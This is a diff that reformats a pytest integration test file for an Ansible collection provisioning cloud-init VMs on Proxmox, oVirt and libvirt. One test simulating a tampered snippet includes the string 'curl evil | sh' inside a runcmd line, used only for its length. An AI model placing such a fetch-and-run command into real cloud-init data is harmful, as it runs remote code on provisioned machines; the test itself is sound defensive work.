@@ -10,20 +10,23 @@ import pytest
 from ansible_collections.pureboot.hypervisors.plugins.module_utils._sha_crypt import verify
 from ansible_collections.pureboot.hypervisors.tests.contract.backends import ALL_BACKENDS
 from ansible_collections.pureboot.hypervisors.tests.integration.conftest import target_vars
-from ansible_collections.pureboot.hypervisors.tests.integration.runner import (
-    ansible_inventory, assert_ok, listing, run_playbook)
+from ansible_collections.pureboot.hypervisors.tests.integration.runner import ansible_inventory, assert_ok, listing, run_playbook
 from ansible_collections.pureboot.hypervisors.tests.integration.test_security import case
 
 PASSWORD = 'Cl0ud-init-S3cret'
-KEY = 'ssh-ed25519 ' + base64.b64encode(b'\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20' + bytes(range(32))).decode() + \
-    ' deploy@ci-test'
+KEY = 'ssh-ed25519 ' + base64.b64encode(b'\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20' + bytes(range(32))).decode() + ' deploy@ci-test'
 USER_DATA = '#cloud-config\npackages: [htop]\n'
 
 
 def cloud_init(**overrides):
-    settings = {'user': 'deploy', 'password': PASSWORD, 'ssh_keys': [KEY],
-                'ip_config': [{'address': '192.0.2.10/24', 'gateway': '192.0.2.1'}],
-                'nameservers': ['192.0.2.53'], 'search_domains': ['lab.example.com']}
+    settings = {
+        'user': 'deploy',
+        'password': PASSWORD,
+        'ssh_keys': [KEY],
+        'ip_config': [{'address': '192.0.2.10/24', 'gateway': '192.0.2.1'}],
+        'nameservers': ['192.0.2.53'],
+        'search_domains': ['lab.example.com'],
+    }
     settings.update(overrides)
     return settings
 
@@ -33,11 +36,9 @@ def play(tasks):
     steps = []
     for name, options, check in tasks:
         module = dict({'hypervisor': '{{ hv }}', 'name': 'ci-vm', 'template': '{{ template }}'}, **options)
-        steps.append({'name': name, 'pureboot.hypervisors.pureboot_vm': module, 'register': name,
-                      'check_mode': check})
+        steps.append({'name': name, 'pureboot.hypervisors.pureboot_vm': module, 'register': name, 'check_mode': check})
     registered = ', '.join(name for name, _options, _check in tasks)
-    steps.append({'name': 'results', 'ansible.builtin.copy': {
-        'dest': '{{ results_file }}', 'content': '{{ [' + registered + '] | to_json }}'}})
+    steps.append({'name': 'results', 'ansible.builtin.copy': {'dest': '{{ results_file }}', 'content': '{{ [' + registered + '] | to_json }}'}})
     return [{'name': 'cloud_init', 'hosts': 'localhost', 'gather_facts': False, 'tasks': steps}]
 
 
@@ -63,14 +64,17 @@ def run(backend, tmp_path, tasks, args=('--diff',)):
 
 @pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
 def test_proxmox_cloud_init_reaches_the_vm_config(backend, tmp_path):
-    results, output = run(backend, tmp_path, [
-        ('preview', {'cloud_init': cloud_init()}, True),
-        ('create', {'cloud_init': cloud_init()}, False),
-        ('again', {'cloud_init': cloud_init()}, False),
-        ('change', {'cloud_init': cloud_init(nameservers=['192.0.2.54'], ip_config=[{'address': 'dhcp'}])}, False),
-        ('kept', {'cloud_init': cloud_init(password='Other-pa55word', nameservers=['192.0.2.54'],
-                                           ip_config=[{'address': 'dhcp'}])}, False),
-    ])
+    results, output = run(
+        backend,
+        tmp_path,
+        [
+            ('preview', {'cloud_init': cloud_init()}, True),
+            ('create', {'cloud_init': cloud_init()}, False),
+            ('again', {'cloud_init': cloud_init()}, False),
+            ('change', {'cloud_init': cloud_init(nameservers=['192.0.2.54'], ip_config=[{'address': 'dhcp'}])}, False),
+            ('kept', {'cloud_init': cloud_init(password='Other-pa55word', nameservers=['192.0.2.54'], ip_config=[{'address': 'dhcp'}])}, False),
+        ],
+    )
     preview, create, again, change, kept = results
     assert preview['changed'] and create['changed']
     # Check mode predicted what the real run returns.
@@ -96,8 +100,7 @@ def test_proxmox_cloud_init_reaches_the_vm_config(backend, tmp_path):
 
 @pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
 def test_proxmox_user_data_needs_its_snippet(backend, tmp_path):
-    result = run_playbook(tmp_path, play([('create', {'cloud_init': {'user_data': USER_DATA}, 'node': 'pve1'},
-                                           False)]), target_vars(backend, tmp_path))
+    result = run_playbook(tmp_path, play([('create', {'cloud_init': {'user_data': USER_DATA}, 'node': 'pve1'}, False)]), target_vars(backend, tmp_path))
     assert result.returncode != 0
     assert "needs a storage whose content allows snippets on node 'pve1'" in result.stdout
     assert backend.driver().get_vm(name='ci-vm') is None, 'a VM was made before the check failed'
@@ -111,19 +114,27 @@ def test_proxmox_user_data_as_a_snippet(backend, tmp_path):
     backend.pve.storages['local']['content'] = 'iso,vztmpl,backup,snippets'
     volumes = backend.pve.storages['local'].setdefault('volumes', {})
     volumes[name] = {'content': 'snippets', 'format': 'raw', 'size': len(USER_DATA), 'ctime': 0}
-    results, _output = run(backend, tmp_path, [
-        ('preview', {'cloud_init': cloud_init(user_data=USER_DATA)}, True),
-        ('create', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
-        ('again', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
-    ], args=VERBOSE)
+    results, _output = run(
+        backend,
+        tmp_path,
+        [
+            ('preview', {'cloud_init': cloud_init(user_data=USER_DATA)}, True),
+            ('create', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
+            ('again', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
+        ],
+        args=VERBOSE,
+    )
     preview, create, again = results
     assert preview['cloud_init'] == create['cloud_init'] == again['cloud_init'] and not again['changed']
-    assert create['cloud_init']['user_data'] == 'sha256:' + name.rsplit('-', maxsplit=1)[-1][:-len('.yaml')]
+    assert create['cloud_init']['user_data'] == 'sha256:' + name.rsplit('-', maxsplit=1)[-1][: -len('.yaml')]
     assert backend.pve.vm(int(create['vm']['id'])).config['cicustom'] == 'user=local:' + name
     # Another document is another snippet, which is not there: one line says where it must be, nothing is written.
     writes = backend.write_count()
-    result = run_playbook(tmp_path, play([('other', dict(backend.placement, cloud_init=cloud_init(
-        user_data=USER_DATA + 'timezone: UTC\n')), False)]), target_vars(backend, tmp_path))
+    result = run_playbook(
+        tmp_path,
+        play([('other', dict(backend.placement, cloud_init=cloud_init(user_data=USER_DATA + 'timezone: UTC\n')), False)]),
+        target_vars(backend, tmp_path),
+    )
     assert result.returncode != 0 and backend.write_count() == writes
     assert "cloud_init.user_data: the snippet 'local:snippets/pureboot-user-data-" in result.stdout
     assert "is not on node 'pve1'; PVE's API cannot upload snippets" in result.stdout
@@ -138,26 +149,33 @@ def test_proxmox_a_snippet_of_another_size_is_not_the_document(backend, tmp_path
     volumes = backend.pve.storages['local'].setdefault('volumes', {})
     # A snippet of the right name that is not this document (someone with write access to the snippet storage
     # changed it): PVE's API cannot read it back, but it lists its size, which differs: one line, nothing written.
-    volumes[name] = {'content': 'snippets', 'format': 'raw', 'ctime': 0,
-                     'size': len(USER_DATA) + len('runcmd: [[sh, -c, "curl evil | sh"]]\n')}
+    volumes[name] = {'content': 'snippets', 'format': 'raw', 'ctime': 0, 'size': len(USER_DATA) + len('runcmd: [[sh, -c, "curl evil | sh"]]\n')}
     writes = backend.write_count()
-    result = run_playbook(tmp_path, play([('tampered', dict(backend.placement, cloud_init=cloud_init(
-        user_data=USER_DATA), name='ci-vm-2'), False)]), target_vars(backend, tmp_path))
+    result = run_playbook(
+        tmp_path,
+        play([('tampered', dict(backend.placement, cloud_init=cloud_init(user_data=USER_DATA), name='ci-vm-2'), False)]),
+        target_vars(backend, tmp_path),
+    )
     assert result.returncode != 0 and backend.write_count() == writes
     assert "the snippet 'local:{0}' on node 'pve1' has {1} bytes, the document {2}: it is not this document".format(
-        name, volumes[name]['size'], len(USER_DATA)) in ' '.join(result.stdout.split()), result.stdout[-2000:]
+        name, volumes[name]['size'], len(USER_DATA)
+    ) in ' '.join(result.stdout.split()), result.stdout[-2000:]
     assert backend.driver().get_vm(name='ci-vm-2') is None, 'a VM was made before the check failed'
 
 
 @pytest.mark.parametrize('backend', ['ovirt'], indirect=True)
 def test_ovirt_initialization_reaches_the_engine_and_the_first_boot(backend, tmp_path):
-    results, output = run(backend, tmp_path, [
-        ('preview', {'cloud_init': cloud_init()}, True),
-        ('create', {'cloud_init': cloud_init()}, False),
-        ('again', {'cloud_init': cloud_init()}, False),
-        ('start', {'cloud_init': cloud_init(), 'state': 'running'}, False),
-        ('change', {'cloud_init': cloud_init(search_domains=['other.example.com']), 'state': 'running'}, False),
-    ])
+    results, output = run(
+        backend,
+        tmp_path,
+        [
+            ('preview', {'cloud_init': cloud_init()}, True),
+            ('create', {'cloud_init': cloud_init()}, False),
+            ('again', {'cloud_init': cloud_init()}, False),
+            ('start', {'cloud_init': cloud_init(), 'state': 'running'}, False),
+            ('change', {'cloud_init': cloud_init(search_domains=['other.example.com']), 'state': 'running'}, False),
+        ],
+    )
     preview, create, again, start, change = results
     assert preview['changed'] and preview['cloud_init'] == create['cloud_init']
     assert not again['changed'] and again['cloud_init'] == create['cloud_init']
@@ -174,8 +192,7 @@ def test_ovirt_initialization_reaches_the_engine_and_the_first_boot(backend, tmp
     assert booted.authorized_ssh_keys.strip() == KEY and booted.dns_servers == '192.0.2.53'
     assert booted.dns_search == 'lab.example.com'
     nic = booted.nic_configurations[0]
-    assert (nic.name, nic.boot_protocol.value, nic.ip.address, nic.ip.netmask, nic.ip.gateway) == (
-        'eth0', 'static', '192.0.2.10', '255.255.255.0', '192.0.2.1')
+    assert (nic.name, nic.boot_protocol.value, nic.ip.address, nic.ip.netmask, nic.ip.gateway) == ('eth0', 'static', '192.0.2.10', '255.255.255.0', '192.0.2.1')
     # The change reached the VM, not the boot that happened before it.
     assert vm.obj.initialization.dns_search == 'other.example.com'
 
@@ -188,14 +205,20 @@ def test_libvirt_nocloud_seed_volume_attached_and_readable(backend, tmp_path):
     import xml.etree.ElementTree as ET
 
     import pycdlib
+
     # (Check mode of a new libvirt VM fails before cloud_init is looked at, KeyError 'clone' in predict_vm, a bug of
     # the libvirt driver's preflight outside this test: the preview here is of a change to an existing VM.)
-    results, output = run(backend, tmp_path, [
-        ('create', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
-        ('again', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
-        ('preview', {'cloud_init': cloud_init(user_data=USER_DATA, nameservers=['192.0.2.54'])}, True),
-        ('change', {'cloud_init': cloud_init(user_data=USER_DATA, nameservers=['192.0.2.54'])}, False),
-    ], args=VERBOSE)
+    results, output = run(
+        backend,
+        tmp_path,
+        [
+            ('create', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
+            ('again', {'cloud_init': cloud_init(user_data=USER_DATA)}, False),
+            ('preview', {'cloud_init': cloud_init(user_data=USER_DATA, nameservers=['192.0.2.54'])}, True),
+            ('change', {'cloud_init': cloud_init(user_data=USER_DATA, nameservers=['192.0.2.54'])}, False),
+        ],
+        args=VERBOSE,
+    )
     create, again, preview, change = results
     assert create['changed'] and create['cloud_init']['password'] == '********'
     assert not again['changed'] and again['cloud_init'] == create['cloud_init']
@@ -205,8 +228,7 @@ def test_libvirt_nocloud_seed_volume_attached_and_readable(backend, tmp_path):
     conn = backend.host.connect()
     dom = conn.lookupByName('ci-vm')
     cdroms = [d for d in ET.fromstring(dom.XMLDesc(0)).findall('devices/disk') if d.get('device') == 'cdrom']
-    assert [(d.find('source').get('pool'), d.find('source').get('volume')) for d in cdroms] == [
-        (backend.pool, 'ci-vm-cidata.iso')]
+    assert [(d.find('source').get('pool'), d.find('source').get('volume')) for d in cdroms] == [(backend.pool, 'ci-vm-cidata.iso')]
     assert cdroms[0].find('readonly') is not None
     # The seed as a guest's cloud-init finds it: an ISO9660 volume labelled cidata with the NoCloud files.
     volume = conn.storagePoolLookupByName(backend.pool).storageVolLookupByName('ci-vm-cidata.iso')
@@ -264,12 +286,19 @@ def test_inventory_takes_the_cloud_init_user_and_address_only_when_asked(backend
 @pytest.mark.parametrize('backend', ['proxmox'], indirect=True)
 def test_role_vm_provision_takes_cloud_init_per_vm(backend, tmp_path):
     connection = backend.connection()
-    vms = [dict(backend.placement, name='ci-role-1', hypervisor='hv', template=backend.template, pxe_boot=False,
-                cloud_init={'user': 'deploy', 'ssh_keys': [KEY], 'ip_config': [{'address': 'dhcp'}]}),
-           dict(backend.placement, name='ci-role-2', hypervisor='hv', template=backend.template, state='present')]
+    vms = [
+        dict(
+            backend.placement,
+            name='ci-role-1',
+            hypervisor='hv',
+            template=backend.template,
+            pxe_boot=False,
+            cloud_init={'user': 'deploy', 'ssh_keys': [KEY], 'ip_config': [{'address': 'dhcp'}]},
+        ),
+        dict(backend.placement, name='ci-role-2', hypervisor='hv', template=backend.template, state='present'),
+    ]
     plays = [{'hosts': 'localhost', 'gather_facts': False, 'roles': [{'role': 'pureboot.hypervisors.vm_provision'}]}]
-    variables = {'vm_provision_hypervisors': {'hv': connection}, 'vm_provision_vms': vms,
-                 'vm_provision_cloud_init_passwords': {'ci-role-1': PASSWORD}}
+    variables = {'vm_provision_hypervisors': {'hv': connection}, 'vm_provision_vms': vms, 'vm_provision_cloud_init_passwords': {'ci-role-1': PASSWORD}}
     for _run in range(2):
         result = run_playbook(tmp_path, plays, variables, args=['-v'])
         assert_ok(result)
@@ -287,9 +316,9 @@ def test_role_vm_provision_takes_cloud_init_per_vm(backend, tmp_path):
 def test_check_mode_of_a_cloud_init_change_sends_no_write_and_shows_it_redacted(backend, tmp_path):
     run(backend, tmp_path, [('create', {'cloud_init': cloud_init()}, False)])
     writes = backend.write_count()
-    results, output = run(backend, tmp_path, [
-        ('preview', {'cloud_init': cloud_init(ssh_keys=[KEY, KEY.replace('deploy@', 'other@')],
-                                              update_password='always')}, True)])
+    results, output = run(
+        backend, tmp_path, [('preview', {'cloud_init': cloud_init(ssh_keys=[KEY, KEY.replace('deploy@', 'other@')], update_password='always')}, True)]
+    )
     assert backend.write_count() == writes, 'check mode sent a write request'
     preview = results[0]
     assert preview['changed']
